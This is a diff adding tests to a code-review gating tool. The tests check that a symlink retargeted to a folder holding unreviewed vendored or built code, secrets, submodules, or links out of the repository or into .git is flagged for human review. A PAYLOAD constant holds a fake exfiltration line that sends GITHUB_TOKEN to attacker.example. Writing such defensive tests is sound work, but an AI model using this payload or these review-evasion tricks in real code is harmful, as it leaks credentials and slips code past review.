@@ -3281,6 +3281,122 @@ describe('#424 a selected link is reviewed only when it leads to what the review
   });
 });
 
+describe('#509 a selected link to a folder is reviewed only when the review reads everything under it', () => {
+  const PAYLOAD = 'fetch("https://attacker.example/?t=" + process.env.GITHUB_TOKEN);\n';
+  const link = (repo: string, path: string, target: string) => {
+    mkdirSync(dirname(join(repo, path)), { recursive: true });
+    symlinkSync(target, join(repo, path));
+  };
+
+  /**
+   * The base links `src/plugins` to `lib/safe`, `before` fills `lib/w`; the change retargets the link
+   * to `../lib/w` beside a reviewed edit, committed or (`workspace`) left in the working tree.
+   */
+  function retargeted(before: (repo: string) => void, workspace = false): string {
+    const repo = makeCartRepo();
+    before(repo);
+    link(repo, 'src/plugins', '../lib/safe');
+    write(repo, 'lib/safe/index.js', 'module.exports = 1;\n');
+    commitAll(repo, 'base');
+    rmSync(join(repo, 'src/plugins'));
+    link(repo, 'src/plugins', '../lib/w');
+    write(repo, 'src/cart.js', `${CART_V2}// reviewed\n`);
+    if (!workspace) commitAll(repo, 'the change: src/plugins now leads to lib/w');
+    return repo;
+  }
+
+  /** `lib/w/next` -> `../w1`, `lib/w1/next` -> `../w2`, …: `count` folders, each leading to the next. */
+  const chain = (repo: string, count: number) => {
+    for (let i = 0; i < count; i++) {
+      const folder = i === 0 ? 'lib/w' : `lib/w${i}`;
+      write(repo, `${folder}/index.js`, 'module.exports = require("./next");\n');
+      link(repo, `${folder}/next`, `../w${i + 1}`);
+    }
+    write(repo, `lib/w${count}/index.js`, 'module.exports = 1;\n');
+  };
+
+  it.each<[string, (repo: string) => void, string[]?]>([
+    ['a vendored file under it (lib/w/vendor/x.js)', (r) => write(r, 'lib/w/vendor/x.js', PAYLOAD)],
+    [
+      'a built entry under it (lib/w/dist/index.js, the main of lib/w/package.json)',
+      (r) => {
+        write(r, 'lib/w/dist/index.js', PAYLOAD);
+        write(r, 'lib/w/package.json', '{ "main": "dist/index.js" }\n');
+      },
+    ],
+    ['a file under it an --exclude pattern names', (r) => write(r, 'lib/w/gen/x.js', PAYLOAD), ['--exclude', 'lib/w/gen/**']],
+    ['a secret under it (lib/w/.env)', (r) => write(r, 'lib/w/.env', 'TOKEN=x\n')],
+    [
+      'a submodule under it (lib/w/sub, a gitlink)',
+      (r) => {
+        write(r, 'lib/w/a.js', 'x\n');
+        git(r, 'update-index', '--add', '--cacheinfo', `160000,${rev(r, 'HEAD')},lib/w/sub`);
+        write(r, 'lib/w/sub/evil.js', PAYLOAD);
+      },
+    ],
+    [
+      'an unchanged link under it out of the repository',
+      (r) => {
+        write(r, 'lib/w/a.js', 'x\n');
+        link(r, 'lib/w/b.js', '../../../outside.js');
+      },
+    ],
+    [
+      'an unchanged link under it into .git',
+      (r) => {
+        write(r, 'lib/w/a.js', 'x\n');
+        link(r, 'lib/w/cfg', '../../.git/config');
+      },
+    ],
+    [
+      'an unchanged link under it to a folder that holds a vendored file',
+      (r) => {
+        link(r, 'lib/w/more', '../more');
+        write(r, 'lib/more/vendor/x.js', PAYLOAD);
+      },
+    ],
+    ['a chain of folder links deeper than the bound', (r) => chain(r, 10)],
+  ])('#509 a link retargeted to a folder holding %s: unreviewedTarget, named for a person', async (_name, before, args = []) => {
+    const repo = retargeted(before);
+    const r = await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1', ...args]);
+    expect(r.code, r.stderr).toBe(0);
+    expect(readScope(repo).files.find((f) => f.path === 'src/plugins')).toMatchObject({ kind: 'symlink', unreviewedTarget: true });
+    expect(r.stdout).toMatch(/a person must look at \d+ changed file\(s\) no agent reviews: [^\n]*src\/plugins/);
+  });
+
+  it('#509 the issue: the gate derives the same and stays incomplete until a person acknowledges the link', async () => {
+    const repo = retargeted((r) => write(r, 'lib/w/dist/index.js', PAYLOAD));
+    await seal(repo, ['--base', 'HEAD~1', '--effort', 'low', '--dispatch', 'one']);
+    answer(repo);
+    const event = prEvent(repo, 'HEAD~1');
+    const r = await gate(repo, {}, event);
+    expectIncomplete(r, /a person must look at each, then acknowledge it .*: src\/plugins/, rev(repo, 'HEAD'));
+    expect(line(r.summary, /^\| .src\/plugins. \| a symbolic link that leads where no review reads: .*a folder that holds/)).toBeDefined();
+    expect((await cliCase(repo, ['review', 'gate', ID])).code).toBe(2);
+    expect((await gate(repo, { acknowledge: 'src/plugins' }, event)).outputs.verdict).toBe('clean');
+  });
+
+  it("#509 --workspace: a link left in the working tree to a folder holding a vendored file is a person's too", async () => {
+    const repo = retargeted((r) => write(r, 'lib/w/vendor/x.js', PAYLOAD), true);
+    const scope = await seal(repo, ['--workspace', '--base', 'HEAD']);
+    expect(scope.files.find((f) => f.path === 'src/plugins')).toMatchObject({ kind: 'symlink', unreviewedTarget: true });
+  });
+
+  it('#509 a folder of tracked code, its links leading to such folders (a loop among them, a chain within the bound), stays reviewed', async () => {
+    const repo = retargeted((r) => {
+      chain(r, 3);
+      link(r, 'lib/w/more', '../more');
+      write(r, 'lib/more/index.js', 'module.exports = 2;\n');
+      link(r, 'lib/more/back', '../w');
+    });
+    const scope = await seal(repo, ['--base', 'HEAD~1']);
+    expect(scope.files.map((f) => [f.path, f.unreviewedTarget])).toEqual([
+      ['src/cart.js', undefined],
+      ['src/plugins', undefined],
+    ]);
+  });
+});
+
 describe('#461 a tracked file whose name is not UTF-8, under a clean conversion, is never left out of the working tree check', () => {
   it('#461 a CR-only edit to `src/caf\\xe9.sh` under core.autocrlf: the working-tree scope is refused in one line naming it, never sealed without it', async () => {
     const repo = makeCartRepo();
